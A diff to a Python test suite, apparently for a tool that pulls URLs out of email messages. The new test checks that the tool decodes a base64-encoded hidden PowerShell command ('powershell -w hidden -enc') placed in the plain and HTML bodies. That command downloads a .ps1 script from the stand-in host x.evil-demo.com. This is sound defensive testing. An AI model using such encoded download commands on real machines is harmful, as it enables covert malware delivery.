@@ -2,6 +2,7 @@
 
 import io
 import zipfile
+from base64 import b64encode
 from collections.abc import Callable
 from datetime import UTC, datetime
 from email.message import EmailMessage
@@ -90,6 +91,16 @@ def test_bodies_are_read_with_their_places() -> None:
     assert found(answers(made)) == {
         ("http://plain.evil-demo.com/a", "body text", None),
         ("http://html.evil-demo.com/b", "body html, a href", None),
+    }
+
+
+def test_encoded_commands_in_a_body_are_told() -> None:
+    command = b64encode("iwr http://x.evil-demo.com/a.ps1 -OutFile b.ps1".encode("utf-16-le")).decode()
+    made = mail(f"It ran\npowershell -w hidden -enc {command[:40]}\n{command[40:]}\n\nand ended.\n")
+    made.add_alternative(f"<p>It ran <code>powershell -enc {command}</code></p>", subtype="html")
+    assert found(answers(made)) == {
+        ("http://x.evil-demo.com/a.ps1", "body text, command, decoded", None),
+        ("http://x.evil-demo.com/a.ps1", "body html, command, decoded", None),
     }
 
 
